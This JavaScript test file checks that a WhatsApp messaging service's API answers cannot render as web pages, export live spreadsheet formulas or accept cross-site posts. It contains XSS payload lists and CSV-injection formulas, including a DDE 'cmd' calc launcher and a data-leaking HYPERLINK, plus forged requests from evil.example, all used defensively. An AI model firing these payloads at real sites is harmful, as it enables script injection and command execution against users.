// SPDX-License-Identifier: MIT
// scripts.test.mjs — R22: people, queues and messages are called what runs where it is shown, and other sites post to us.
//
// What a browser makes of them in the dashboard is for tests/browser; here: nothing that we answer can be taken for a page.
import assert from 'node:assert/strict'
import { test } from 'node:test'

import { DeadRedis } from './dlq_world.mjs'
import { told } from './fault.mjs'
import { Description } from './openapi.mjs'
import { SECRET } from './sandbox_world.mjs'
import { Sender, KEY } from './send_world.mjs'
import { messages, sign } from './sink_world.mjs'
import { until } from './support.mjs'

// How a script gets out of where it stands, and what then runs: 200 in all.
const OUT = ['', '"', "'", '">', "'>", '</script>', '</textarea>', '</title>', '-->', ']]>', '`', '${', '{{', '\\u003c', '&lt;', '\u2028', '<!--', 'javascript:', '=', '\r\n\r\n']
const RUN = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'onmouseover=alert(1) x="', '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>', '<body onload=alert(1)>', '<math><mtext></p><style><img title="</style><img src onerror=alert(1)>">', 'alert(1)//', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
]
const SCRIPTS = OUT.flatMap((out) => RUN.map((run) => out + run))
const FORMULAS = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1+1)', '\t=1', '\r=1', '=HYPERLINK("http://x/?"&A1)']
const PLAIN = /^(application\/(problem\+)?json|application\/x-ndjson|application\/octet-stream|text\/event-stream|text\/csv; charset=utf-8|text\/plain; version=0\.0\.4; charset=utf-8)$/

// The answer's text; it is nothing that a browser would show as a page.
async function plain(answer, what) {
  const text = await answer.text()
  if (answer.status === 204) return text
  assert.match(answer.headers.get('content-type') ?? 'none', PLAIN, what)
  assert.equal(answer.headers.get('x-content-type-options'), 'nosniff', what)
  if (/\/(problem\+)?json$/.test(answer.headers.get('content-type'))) JSON.parse(text)
  return text
}

const person = (i) => `5939980${String(i).padStart(5, '0')}`

// Everything that takes a text gets the scripts.
async function fill(world, redis) {
  const hook = (body) => fetch(`http://127.0.0.1:${world.port}/webhooks/whatsapp`, {
    method: 'POST', body, headers: { 'content-type': 'application/json', 'x-hub-signature-256': sign(body, SECRET) },
  })
  const bulk = SCRIPTS.map((text, i) => ({ to: `+${person(i)}`, text, reference: text.replaceAll('\r\n', '').slice(0, 100) }))
  await world.json('POST', '/api/messages', { messages: bulk }, 202)
  await Promise.all(SCRIPTS.map(async (text, i) => {
    const made = await world.call('POST', '/api/contacts', { phone: `+${person(i)}`, name: text, attributes: { note: text } })
    assert.ok(made.status < 500, `${made.status} ${text}`)
    await plain(made, `a contact called ${text}`)
    const one = JSON.parse(messages([`wamid.${i}`]))
    const { value } = one.entry[0].changes[0]
    Object.assign(value, { contacts: [{ wa_id: person(i), profile: { name: text } }] })
    Object.assign(value.messages[0], { from: person(i), text: { body: text } })
    value.metadata.phone_number_id = '100000000000001'
    assert.equal((await hook(JSON.stringify(one))).status, 200)
    const job = await world.call('POST', '/api/queues/evil/jobs', { name: text, data: { text } })
    assert.ok(job.status < 500)
    await plain(job, `a job called ${text}`)
    // Into the path, the query and a header: none may come back as more than a text.
    for (const path of [`/${encodeURIComponent(text)}`, `/api/contacts/${encodeURIComponent(text)}`, `/api/contacts?q=${encodeURIComponent(text)}`, `/api/queues/${encodeURIComponent(text)}`])
      await plain(await world.call('GET', path), path)
  }))
  await redis.letters('evil', [...SCRIPTS, ...FORMULAS].map((text, i) => ({ id: String(i + 1), name: text, reason: text, data: { text } })))
}

// Every page that can be read, with ids out of those before it: {pages, found}.
async function readAll(world) {
  const { operations } = await Description.of(`http://127.0.0.1:${world.port}`)
  const ids = new Map()
  let pages = 0
  let found = 0
  const read = async (path) => {
    const text = await plain(await world.call('GET', path), path)
    pages++
    if (/alert\(1\)/.test(text)) found++
    return text
  }
  const gets = operations.filter(({ method, path }) => method === 'get' && path !== '/api/events').sort((a, b) => a.path.length - b.path.length)
  for (const { path } of gets) {
    const at = path.indexOf('/{')
    const names = at < 0 ? [''] : path.startsWith('/api/queues') || path.startsWith('/api/dlq') ? ['evil'] : (ids.get(path.slice(0, at)) ?? [])
    for (const name of names.slice(0, 5)) {
      const text = await read(path.replace(/\{\w+\}/, encodeURIComponent(name)).replaceAll(/\{\w+\}/g, '1'))
      if (at < 0 && text.startsWith('{"data":[')) ids.set(path, JSON.parse(text).data.map(({ id, name }) => String(id ?? name)))
    }
  }
  return { pages, found }
}

// What comes live: each line is one of an event's, each datum whole.
async function live(world, n) {
  const answer = await fetch(`http://127.0.0.1:${world.port}/api/events`, { headers: { authorization: `Bearer ${KEY}` }, signal: AbortSignal.timeout(30_000) })
  assert.equal(answer.headers.get('x-content-type-options'), 'nosniff')
  assert.equal(answer.headers.get('content-type'), 'text/event-stream')
  let text = ''
  for await (const piece of answer.body.pipeThrough(new TextDecoderStream())) {
    text += piece
    if (text.split('\ndata: ').length > n) break
  }
  const lines = text.slice(0, text.lastIndexOf('\n')).split('\n')
  for (const line of lines) {
    assert.match(line, /^$|^:|^(id|event|data|retry): /)
    if (line.startsWith('data: ')) JSON.parse(line.slice(6))
  }
  return lines.filter((line) => line.startsWith('data: ')).length
}

test(`R22: ${SCRIPTS.length} names and texts that hold scripts are never answered as a page`, async (t) => {
  const redis = await DeadRedis.start(t)
  const world = await Sender.start(t, { redis })
  assert.equal(SCRIPTS.length, 200)
  const listening = live(world, 50)
  listening.catch(() => {}) // told below
  await until(async () => await redis.do('EXISTS', 'wq:{bull}:sub:live') === 1)
  await fill(world, redis)
  await until(async () => (await world.json('GET', '/api/conversations?limit=100')).data.length === 100)
  const { pages, found } = await readAll(world)
  const events = await listening
  const csv = await plain(await world.call('GET', '/api/dlq/evil/export?format=csv'), 'the table')
  const cells = csv.split('\r\n').flatMap((line) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell))
  const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
  const metrics = await plain(await world.call('GET', '/metrics'), 'metrics')
  const wrong = metrics.split('\n').filter((line) => line && !/^# (HELP|TYPE) |^\w+(\{(\w+="([^"\\]|\\.)*",?)+\})? [-+\d.eE]+(NaN|Inf)?$/.test(line))
  told(t, { scripts: SCRIPTS.length, pages_read: pages, of_them_with_scripts: found, events, cells: cells.length, cells_that_compute: formulas.length, metric_lines_broken: wrong.length })
  assert.ok(pages >= 30 && found >= 5, 'they were there to be seen')
  assert.ok(cells.length > 3 * SCRIPTS.length)
  assert.deepEqual(formulas, [])
  assert.deepEqual(wrong, [])
})

// As a page of another site makes them, with what its visitor's browser would add: cookies, an Origin, and no key.
const FORMS = [
  ['text/plain', (body) => `${body.slice(0, -1)},"x":"="}`], ['application/x-www-form-urlencoded', (body) => encodeURIComponent(body)],
  ['multipart/form-data; boundary=x', (body) => `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${body}\r\n--x--\r\n`], ['application/json', (body) => body],
]

test('R22: what another site posts changes nothing', async (t) => {
  const world = await Sender.start(t)
  const url = `http://127.0.0.1:${world.port}`
  const own = async () => {
    const kept = {}
    for (const key of (await world.redis.do('KEYS', '*')).sort()) if (/:(msg|contact|contacts|queue|accounts?|subs?|keys?|templates?):|^bull:/.test(key)) kept[key] = await world.redis.do('DUMP', key)
    return kept
  }
  const id = await world.send({ reference: 'mine' })
  await world.reached(id, 'read')
  await until(async () => (await world.json('GET', '/api/queues/outbound-messages')).counts.active === 0)
  const { operations } = await Description.of(url)
  const changing = operations.filter(({ method, path }) => method !== 'get' && path.startsWith('/api/'))
  const before = await own()
  const counts = { operations: changing.length, posts: 0, taken: 0, preflights_allowed: 0, answers_shared: 0 }
  const site = { origin: 'https://evil.example', referer: 'https://evil.example/', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', cookie: `key=${KEY}; apikey=${KEY}; authorization=Bearer ${KEY}` }
  for (const { method, path } of changing) {
    const at = `${url}${path.replaceAll(/\{\w+\}/g, id)}`
    for (const [type, wrap] of FORMS) {
      const body = wrap(JSON.stringify({ to: '+593991234567', text: 'x', phone: '+593991234567', name: 'x', url: 'http://127.0.0.1/', authorization: `Bearer ${KEY}` }))
      const answer = await fetch(`${at}?key=${KEY}&apikey=${KEY}&access_token=${KEY}`, { method: method.toUpperCase(), body, headers: { ...site, 'content-type': type } })
      await answer.text()
      counts.posts++
      if (answer.status !== 401 && answer.status !== 403) counts.taken++
      if (answer.headers.get('access-control-allow-origin')) counts.answers_shared++
    }
    const asked = await fetch(at, { method: 'OPTIONS', headers: { ...site, 'access-control-request-method': method.toUpperCase(), 'access-control-request-headers': 'authorization,content-type' } })
    await asked.text()
    if (asked.headers.get('access-control-allow-origin') || asked.headers.get('access-control-allow-headers')) counts.preflights_allowed++
  }
  // Nor are answers shared with it, that it might read by a key it knows of.
  for (const path of ['/api/messages/' + id, '/metrics', '/openapi.json', '/livez']) {
    const answer = await fetch(url + path, { headers: { ...site, authorization: `Bearer ${KEY}` } })
    await answer.text()
    assert.equal(answer.status, 200)
    if (answer.headers.get('access-control-allow-origin')) counts.answers_shared++
  }
  for (const path of ['/webhooks/whatsapp', '/webhooks/evolution/x', '/webhooks/twilio']) {
    const answer = await fetch(url + path, { method: 'POST', body: messages(['wamid.evil']), headers: { ...site, 'content-type': 'text/plain' } })
    await answer.text()
    counts.posts++
    if (answer.status === 200) counts.taken++
  }
  const after = await own()
  told(t, { ...counts, keys_compared: Object.keys(before).length, keys_changed: Object.keys({ ...before, ...after }).filter((key) => before[key] !== after[key]).length })
  assert.deepEqual([counts.taken, counts.preflights_allowed, counts.answers_shared], [0, 0, 0])
  assert.ok(counts.operations > 30 && Object.keys(before).length > 5)
  assert.deepEqual(Object.keys(after), Object.keys(before))
  assert.deepEqual(after, before)
})
